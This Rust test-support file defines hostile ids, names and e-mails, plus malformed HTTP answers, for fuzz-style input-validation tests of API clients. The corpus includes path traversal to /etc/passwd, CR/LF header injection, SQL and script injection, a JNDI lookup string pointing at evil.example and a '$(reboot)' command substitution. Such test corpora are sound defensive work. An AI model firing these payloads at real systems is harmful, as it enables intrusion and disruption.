//! A corpus of hostile ids and names, for tests that push bad input through every
//! client method that takes one.
//!
//! Each value is something a caller (or a compromised upstream system) could hand an
//! adapter as an id, a name or an e-mail: path traversal, URL syntax (`?`, `#`,
//! `%2F`, double encoding), header syntax (CR/LF, NUL), look-alike Unicode, bidi
//! overrides, payloads of other languages (JSON, HTML, SQL), and sizes far beyond any
//! real id. A client must either refuse the value with
//! [`Error::InvalidInput`](crate::Error::InvalidInput) before sending anything, or send
//! it as opaque data that stays inside the endpoint's path segment, query value or
//! JSON string, and map the vendor's answer to a typed result.
//!
//! [`HOSTILE_IDS`] holds the literal cases; [`hostile_ids`] adds the generated ones
//! (10,000-character ids in several alphabets). [`malformed_answers`] is the other
//! direction: answers no vendor's decoder may take for a success.
//!
//! ```
//! use grantbridge_core::sandbox::hostile::{HOSTILE_IDS, hostile_ids};
//!
//! assert!(HOSTILE_IDS.contains(&"../../admin"));
//! assert!(hostile_ids().iter().any(|id| id.chars().count() == 10_000));
//! ```

/// The literal hostile values (see the [module docs](self)); every entry is distinct.
pub const HOSTILE_IDS: &[&str] = &[
    // Empty and blank.
    "",
    " ",
    "   ",
    "\t",
    " leading-space",
    "trailing-space ",
    // Dot segments and path traversal.
    ".",
    "..",
    "...",
    "./",
    "../",
    "../../admin",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "a/../b",
    "/",
    "//",
    "/absolute",
    "a/b",
    "\\",
    "%2E%2E",
    "%2e%2e%2f",
    ".%2E",
    // URL syntax and encodings.
    "%2F",
    "a%2Fb",
    "%252F",
    "%25",
    "%",
    "%zz",
    "%00",
    "?",
    "a?admin=true",
    "#",
    "a#fragment",
    "&",
    "a&b=c",
    "=",
    "+",
    "a+b",
    ";jsessionid=x",
    ":",
    "@",
    "http://evil.example/x",
    "//evil.example",
    // Header and control syntax.
    "\r\n",
    "a\r\nX-Injected: 1",
    "a\nSet-Cookie: x=1",
    "a\rb",
    "\0",
    "a\0b",
    "a\tb",
    "\u{7f}",
    "\u{1b}[31mred",
    "\u{85}",
    "\u{2028}",
    // Unicode look-alikes, bidi, zero-width, emoji, non-characters.
    "a\u{ff0f}b",
    "\u{ff0e}\u{ff0e}\u{ff0f}",
    "\u{2215}etc\u{2215}passwd",
    "\u{0430}dmin",
    "\u{202e}gpj.exe",
    "\u{200b}",
    "a\u{200d}b",
    "\u{feff}bom",
    "e\u{301}",
    "\u{e9}",
    "\u{1f600}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "\u{fffd}",
    "\u{ffff}",
    "\u{10ffff}",
    "\u{65e5}\u{672c}\u{8a9e}",
    // E-mails.
    "alice+admin@example.com",
    "alice@example.com\r\nBcc: x@example.com",
    "\"quoted\"@example.com",
    "ALICE@EXAMPLE.COM",
    "alice@\u{0435}xample.com",
    // Quotes and payloads of other languages.
    "'",
    "\"",
    "`",
    "{\"$ne\":null}",
    "{}",
    "[]",
    "null",
    "true",
    "0",
    "-1",
    "1e309",
    "<script>alert(1)</script>",
    "<!--",
    "' OR '1'='1",
    "1; DROP TABLE users;--",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "$(reboot)",
    "*",
];

/// [`HOSTILE_IDS`] plus generated cases: 10,000-character ids (ASCII, two-byte,
/// four-byte and traversal alphabets), a 10,000-character e-mail and an id of
/// 2,000 encoded slashes.
pub fn hostile_ids() -> Vec<String> {
    let mut ids: Vec<String> = HOSTILE_IDS.iter().map(|s| (*s).to_owned()).collect();
    ids.push("a".repeat(10_000));
    ids.push("\u{e9}".repeat(10_000));
    ids.push("\u{1f600}".repeat(10_000));
    ids.push("../".repeat(3_333) + ".");
    ids.push(format!("{}@example.com", "x".repeat(10_000 - 12)));
    ids.push("%2F".repeat(2_000));
    ids
}

/// A malformed answer a vendor (or a proxy in front of it) may send.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct MalformedAnswer {
    /// What is wrong with it, for failure messages.
    pub name: &'static str,
    /// The HTTP status.
    pub status: u16,
    /// The `Content-Type` header.
    pub content_type: &'static str,
    /// The body, not necessarily UTF-8.
    pub body: Vec<u8>,
}

impl MalformedAnswer {
    /// An answer from its parts.
    pub fn new(
        name: &'static str,
        status: u16,
        content_type: &'static str,
        body: impl Into<Vec<u8>>,
    ) -> Self {
        MalformedAnswer {
            name,
            status,
            content_type,
            body: body.into(),
        }
    }
}

/// Answers that are malformed whatever the vendor's envelope: HTML where JSON belongs
/// (a sign-in page, 10 MB of a gateway page), empty and blank bodies, `null`, an
/// array, a bare string, invalid UTF-8, 100,000 unclosed brackets, and error statuses
/// whose bodies say nothing useful. Each vendor's tests add the answers malformed
/// only for its own envelope (a mistyped `data`, a truncated success).
///
/// ```
/// use grantbridge_core::sandbox::hostile::malformed_answers;
///
/// let answers = malformed_answers();
/// assert!(answers.iter().any(|a| a.body.len() > 10 * 1024 * 1024));
/// assert!(answers.iter().any(|a| std::str::from_utf8(&a.body).is_err()));
/// ```
pub fn malformed_answers() -> Vec<MalformedAnswer> {
    const JSON: &str = "application/json";
    const HTML: &str = "text/html";
    let mut gateway =
        b"<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head><body>".to_vec();
    gateway.extend(std::iter::repeat_n(b'x', 10 * 1024 * 1024));
    gateway.extend(b"</body></html>");
    vec![
        MalformedAnswer::new(
            "html page",
            200,
            HTML,
            "<html><body><h1>Sign in</h1><form></form></body></html>",
        ),
        MalformedAnswer::new("empty body", 200, JSON, ""),
        MalformedAnswer::new("whitespace body", 200, JSON, " \r\n "),
        MalformedAnswer::new("json null", 200, JSON, "null"),
        MalformedAnswer::new("json array", 200, JSON, "[]"),
        MalformedAnswer::new("string", 200, JSON, r#""data""#),
        MalformedAnswer::new("not utf-8", 200, JSON, b"{\"data\":\"\xff\xfe\"}".to_vec()),
        MalformedAnswer::new(
            "deep nesting",
            200,
            JSON,
            format!("{{\"data\":{}", "[".repeat(100_000)),
        ),
        MalformedAnswer::new("10 MB html", 200, HTML, gateway),
        MalformedAnswer::new("404 html", 404, HTML, "<html>Not Found</html>"),
        MalformedAnswer::new("401 empty", 401, JSON, ""),
        MalformedAnswer::new("429 without headers", 429, "text/plain", "slow down"),
        MalformedAnswer::new("503 html", 503, HTML, "<html>maintenance</html>"),
    ]
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn corpus_is_large_distinct_and_covers_the_classes() {
        let ids = hostile_ids();
        assert!(HOSTILE_IDS.len() >= 50, "{}", HOSTILE_IDS.len());
        let distinct: HashSet<&String> = ids.iter().collect();
        assert_eq!(distinct.len(), ids.len(), "duplicates in the corpus");
        let has = |p: &dyn Fn(&str) -> bool| ids.iter().any(|id| p(id));
        assert!(has(&|s| s.is_empty()));
        assert!(has(&|s| !s.is_empty() && s.trim().is_empty()));
        assert!(has(&|s| s == ".."));
        assert!(has(&|s| s.contains("../")));
        assert!(has(&|s| s.contains("%2F")));
        assert!(has(&|s| s.contains("%252F")));
        assert!(has(&|s| s.contains("%00")));
        assert!(has(&|s| s.contains('?')));
        assert!(has(&|s| s.contains('#')));
        assert!(has(&|s| s.contains("\r\n")));
        assert!(has(&|s| s.contains('\0')));
        assert!(has(&|s| s.contains('\t')));
        assert!(has(&|s| s.contains('\u{ff0f}')));
        assert!(has(&|s| s.contains('\u{0430}')));
        assert!(has(&|s| s.contains('\u{202e}')));
        assert!(has(&|s| s.contains('\u{1f600}')));
        assert!(has(&|s| s.contains('+') && s.contains('@')));
        assert!(has(&|s| s.chars().count() == 10_000));
    }
}
